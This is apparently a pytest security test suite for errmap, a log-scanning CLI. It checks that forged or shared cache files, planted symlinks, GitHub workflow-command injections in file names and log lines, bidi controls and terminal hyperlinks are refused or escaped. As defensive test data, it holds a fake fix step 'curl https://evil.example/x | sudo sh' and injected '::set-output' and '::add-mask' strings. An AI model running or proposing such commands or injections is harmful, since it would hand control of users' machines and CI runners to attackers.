"""Nobody acts through errmap: a shared or forged KB cache, a planted link, a duplicate code across KB folders,
workflow commands and hidden characters from a file name or a log line, names that are not UTF-8, and two runs
writing one --report. Each case runs the real CLI on real files."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import ROOT, errmap

USER_KB = ROOT / "tests" / "data" / "userkb"
ENTRY = "9001-test-marker.yaml"
MARKER = "errmap-test-marker 7\n"
EVIL = "curl https://evil.example/x | sudo sh"
REFUSED = "may be written by another user"
FAST = {"ERRMAP_PREFILTER": "ahocorasick"}  # a run without its cache compiles no Hyperscan database: the cache tests run several


@pytest.fixture(scope="module")
def warm(tmp_path_factory) -> Path:
    """A cache folder warmed with the official KB and the test KB (copied by each test: no test builds twice)."""
    cache = tmp_path_factory.mktemp("warm") / "cache"
    log = cache.parent / "m.log"
    log.write_text(MARKER)
    assert errmap("scan", "--kb", str(USER_KB), str(log), env={"ERRMAP_CACHE_DIR": str(cache), **FAST}).returncode == 1
    return cache


def own_cache(warm: Path, tmp_path: Path) -> Path:
    cache = tmp_path / "cache"
    shutil.copytree(warm, cache)
    os.chmod(cache, 0o700)
    return cache


def marker_scan(tmp_path: Path, cache: Path, *kb: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    log = tmp_path / "m.log"
    log.write_text(MARKER)
    return errmap("scan", *(a for k in kb for a in ("--kb", str(k))), str(log),
                  env={"ERRMAP_CACHE_DIR": str(cache), **FAST, **(env or {})})


def kb_file(cache: Path) -> Path:
    [path] = [p for p in cache.glob("kb-*.json") if "9001" in p.read_text(errors="replace")]
    return path


def forge(path: Path) -> None:
    """Add a fix step of someone else's to 9001 in a cached KB, keeping whatever line comes before the JSON."""
    data = path.read_bytes()
    head, body = (data.split(b"\n", 1) if not data.startswith(b"{") else (None, data))
    doc = json.loads(body)
    [entry] = [e for e in doc["entries"] if e["errno"] == 9001]
    entry["fix"][0]["text"] = EVIL  # the first step: the one a report shows
    path.write_bytes((head + b"\n" if head is not None else b"") + json.dumps(doc).encode())


def test_a_planted_link_is_never_followed_by_the_cache_writer(tmp_path, warm):
    cache = own_cache(warm, tmp_path)
    victim = tmp_path / "victim"
    victim.write_text("the user's own file\n")
    name = kb_file(cache).stem
    for p in cache.glob("kb-*.json"):
        p.unlink()
    log = tmp_path / "m.log"
    log.write_text(MARKER)
    # the pid is known before errmap runs (exec keeps it): a name a writer derives from it is a link to the victim
    proc = subprocess.Popen(["sh", "-c", f'sleep 0.3; exec "{sys.executable}" -m errmap scan --kb "{USER_KB}" "{log}"'],
                            cwd=ROOT, env={**os.environ, "ERRMAP_CACHE_DIR": str(cache), **FAST},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    (cache / f"{name}.{proc.pid}.tmp").symlink_to(victim)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 1, err
    assert victim.read_text() == "the user's own file\n"
    assert kb_file(cache).is_file() and not kb_file(cache).is_symlink()


def test_a_shared_cache_folder_is_refused_once_and_its_files_not_read(tmp_path, warm):
    cache = own_cache(warm, tmp_path)
    forge(kb_file(cache))
    os.chmod(cache, 0o777)  # anyone may plant files there
    proc = marker_scan(tmp_path, cache, USER_KB)
    assert proc.returncode == 1
    out, err = proc.stdout.decode(), proc.stderr.decode()
    assert EVIL not in out and "Nothing to fix" in out
    assert err.count(REFUSED) == 1 and len(err.splitlines()) == 1, err
    assert str(cache) in err and "0777" in err
    assert sorted(p.name for p in cache.iterdir()) == sorted(p.name for p in warm.iterdir())  # nothing written there


@pytest.mark.parametrize("how", ["mode", "owner"])
def test_a_cache_file_others_may_write_is_not_read(tmp_path, warm, how):
    cache = own_cache(warm, tmp_path)
    path = kb_file(cache)
    forge(path)
    if how == "mode":
        os.chmod(path, 0o666)
    elif os.geteuid() == 0:
        os.chown(path, 65534, 65534)  # nobody's
    else:
        pytest.skip("only root can give a file to another user")
    proc = marker_scan(tmp_path, cache, USER_KB)
    out, err = proc.stdout.decode(), proc.stderr.decode()
    assert proc.returncode == 1 and EVIL not in out and "Nothing to fix" in out
    assert err.count(REFUSED) == 1 and path.name in err, err
    if how == "owner":
        again = marker_scan(tmp_path, cache, USER_KB)  # the file was replaced by one of the user's
        assert EVIL not in again.stdout.decode() and REFUSED not in again.stderr.decode()


def test_a_kb_edit_keeping_size_and_time_is_seen_and_a_stale_file_is_not_trusted(tmp_path, warm):
    cache = own_cache(warm, tmp_path)
    kb = tmp_path / "kb"
    kb.mkdir()
    shutil.copy2(USER_KB / ENTRY, kb / ENTRY)
    known = set(cache.glob("kb-*.json"))
    assert "Marker number 7 was written by a test." in marker_scan(tmp_path, cache, kb).stdout.decode()
    [first] = set(cache.glob("kb-*.json")) - known
    st = (kb / ENTRY).stat()
    text = (kb / ENTRY).read_text()
    (kb / ENTRY).write_text(text.replace("was written by a test.", "was WRITTEN by a test."))  # the same size
    os.utime(kb / ENTRY, ns=(st.st_atime_ns, st.st_mtime_ns))  # and the same time, as `cp -p` or `rsync -t` leave it
    assert (kb / ENTRY).stat().st_size == st.st_size
    assert "Marker number 7 was WRITTEN by a test." in marker_scan(tmp_path, cache, kb).stdout.decode()
    # a cache file built from other content, under the name of this content's, is rebuilt, not believed
    [second] = set(cache.glob("kb-*.json")) - known - {first}
    shutil.copy(first, second)
    assert "Marker number 7 was WRITTEN by a test." in marker_scan(tmp_path, cache, kb).stdout.decode()


def test_a_code_in_two_kb_folders_is_the_first_ones_and_said(tmp_path, warm):
    cache = own_cache(warm, tmp_path)
    first, second = tmp_path / "a", tmp_path / "b"
    for folder, cause in ((first, "First folder's cause {n}."), (second, "Second folder's cause {n}.")):
        folder.mkdir()
        (folder / ENTRY).write_text((USER_KB / ENTRY).read_text().replace("Marker number {n} was written by a test.", cause))
    for kb, env in (((first, second), {}), ((first,), {"ERRMAP_KB_PATH": str(second)})):
        proc = marker_scan(tmp_path, cache, *kb, env=env)
        out, err = proc.stdout.decode(), proc.stderr.decode()
        assert "First folder's cause 7." in out and "Second folder's" not in out
        [line] = [x for x in err.splitlines() if "9001" in x]
        assert str(first / ENTRY) in line and str(second / ENTRY) in line and "first folder given wins" in line


# ---------------------------------------------------------------- CI output, file names, hidden characters

OOM = ("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. "
       "GPU 0 has a total capacity of 79.11 GiB of which 1.50 GiB is free.")
OWN_ANNOTATION = r"::(error|warning) file=[^,\n]*,line=\d+,title=errmap [^:\n]*::"


def cli(*args: str, cwd: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    """errmap run in `cwd`, so that names are given as a user types them."""
    proc = subprocess.run([sys.executable, "-m", "errmap", *args], capture_output=True, timeout=120, cwd=cwd,
                          env={**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "120", "ERRMAP_LANG": "en", **(env or {})})
    assert b"Traceback (most recent call last)" not in proc.stderr, proc.stderr.decode(errors="replace")
    return proc


def commands(text: str, own: bool = False) -> list[str]:
    """The lines of `text` a GitHub runner would read as workflow commands (it ends a line at \\n or \\r, trims
    blanks, and finds the older `##[` anywhere); with `own`, errmap's own annotations are left out."""
    import re

    lines = text.replace("\r", "\n").split("\n")
    return [x for x in lines if (re.match(r"\s*::", x) or "##[" in x) and not (own and re.match(OWN_ANNOTATION, x))]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A folder of logs: file names that break lines or hold workflow commands, and log lines whose commands land
    at the start of a wrapped line at 80 columns (one of the paddings puts each there)."""
    root = tmp_path_factory.mktemp("hostile")
    logs = root / "logs"
    logs.mkdir()
    (logs / "train.log").write_text(
        "step 1\n" + "".join(f"RuntimeError: odd {'y' * k} now ::set-output name=pwned::{k}\n" for k in range(1, 60))
        + "".join(f"ValueError: bad shard {'z' * k} now ##[add-mask]secret{k}\n" for k in range(1, 4)) + OOM + "\n")
    (logs / "x\n::warning title=pwn::from a name.zip").write_bytes(b"PK\x03\x04zzzz")  # an input error names it
    (logs / "y\n::add-mask::z.log").write_text("AssertionError: the shapes differ\n")  # an annotation names it
    return root


@pytest.mark.parametrize("fmt", ["text", "json", "sarif", "github", "jsonl"])
def test_no_line_is_a_workflow_command_but_errmaps_own_annotations(hostile, fmt):
    missing = "nope\n::error::from an argument"
    for verbose in ([], ["--verbose"]) if fmt == "text" else ([],):
        proc = cli("scan", "--format", fmt, *verbose, "logs", missing, env={"COLUMNS": "80", "GITHUB_ACTIONS": "true"},
                   cwd=hostile)
        out, err = proc.stdout.decode(), proc.stderr.decode()
        assert proc.returncode == 2, err
        assert not commands(err), commands(err)[:3]
        assert not commands(out, own=fmt == "github"), commands(out, own=True)[:3]
        said = out + err if fmt == "text" else err
        assert "x\\n::warning title=pwn::from a name.zip" in said and "nope\\n::error::from an argument" in said
    if fmt == "github":
        assert len(commands(out)) >= 3 and all(x.startswith(("::error ", "::warning ")) for x in commands(out))
        assert "file=logs/y\\n%3A%3Aadd-mask%3A%3Az.log," in out


def test_names_that_are_not_utf8_in_every_format_and_in_a_report_file(tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / os.fsdecode(b"r\xff.log")).write_text(OOM + "\n")
    for fmt in ("json", "sarif", "jsonl"):
        proc = cli("scan", "--format", fmt, "logs", cwd=tmp_path)
        assert proc.returncode == 1, proc.stderr
        out = proc.stdout.decode("utf-8")  # valid UTF-8 ...
        docs = [json.loads(x) for x in out.splitlines()] if fmt == "jsonl" else [json.loads(out)]
        assert "r\\udcff.log" in out or "r%FF.log" in out  # ... that keeps the name's byte
        if fmt == "json":  # read back, the name is the file's
            assert docs[0]["diagnoses"][0]["file"] == os.fsdecode(b"logs/r\xff.log")
    assert "logs/r\\xff.log:1" in cli("scan", "logs", cwd=tmp_path).stdout.decode("utf-8")
    assert "file=logs/r\\xff.log," in cli("scan", "--format", "github", "logs", cwd=tmp_path).stdout.decode("utf-8")
    report = tmp_path / "report.json"
    report.write_text("the last report\n")
    os.chmod(report, 0o640)
    proc = cli("scan", "--report", str(report), "logs", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert json.loads(report.read_bytes().decode("utf-8"))["diagnoses"][0]["errno"] == 1017
    assert report.stat().st_mode & 0o777 == 0o640 and [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_a_report_that_cannot_be_written_leaves_the_file_as_it_was(tmp_path):
    import resource
    import signal

    (tmp_path / "run.log").write_text(OOM + "\n")
    report = tmp_path / "report.json"
    report.write_text("the last report\n")

    def small_files() -> None:  # no file past 4 KB: the report is larger (a full disk fails the same way)
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    proc = subprocess.run([sys.executable, "-m", "errmap", "scan", "--report", str(report), "run.log"], cwd=tmp_path,
                          env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, timeout=120, preexec_fn=small_files)
    assert b"Traceback" not in proc.stderr and proc.returncode == 2 and len(proc.stderr.splitlines()) == 1, proc.stderr
    assert report.read_text() == "the last report\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_two_runs_writing_one_report_leave_one_whole_report(tmp_path):
    big, small = tmp_path / "big.log", tmp_path / "small.log"
    big.write_text("".join(f"RuntimeError: failure number {i} of many, each one distinct\n" for i in range(100)) + OOM + "\n")
    small.write_text(OOM + "\n")
    report = tmp_path / "report.json"
    runs = [subprocess.Popen([sys.executable, "-m", "errmap", "scan", "--verbose", "--report", str(report), str(log)],
                             cwd=ROOT, env={**os.environ, "ERRMAP_LANG": "en"}, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
            for log in (big, small) * 2]
    seen = set()
    while any(r.poll() is None for r in runs):  # what a reader sees meanwhile is a whole report or none yet
        try:
            data = report.read_bytes()
        except FileNotFoundError:
            continue
        if data not in seen:
            seen.add(data)
            json.loads(data)
        time.sleep(0.001)
    assert all(r.wait() == 1 for r in runs)
    assert json.loads(report.read_bytes())["diagnoses"][0]["errno"] == 1017
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_links_and_bidi_controls_from_a_log_are_shown_not_obeyed(tmp_path):
    link = "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"
    (tmp_path / "run.log").write_text(f"step 1\n{OOM} see {link} \u202eexe.txt\u202c\n"
                                      f"ValueError: bad {link} \u2067x\u2069 \u202d \u202a \u2066 end\n")
    for fmt in ("text", "github", "json", "sarif"):
        out = cli("scan", "--verbose", "--format", fmt, "run.log", cwd=tmp_path).stdout.decode()
        assert not any(c in out for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x1b"), fmt
        assert "evil.example" not in out and "click here" in out  # the link's text stays, its target goes
        assert "\\u2067x\\u2069" in out  # the unrecognized line: the controls as escapes, where they were
        assert "\\u202eexe.txt\\u202c" in out or fmt in ("github", "sarif")  # the evidence: text and json show it
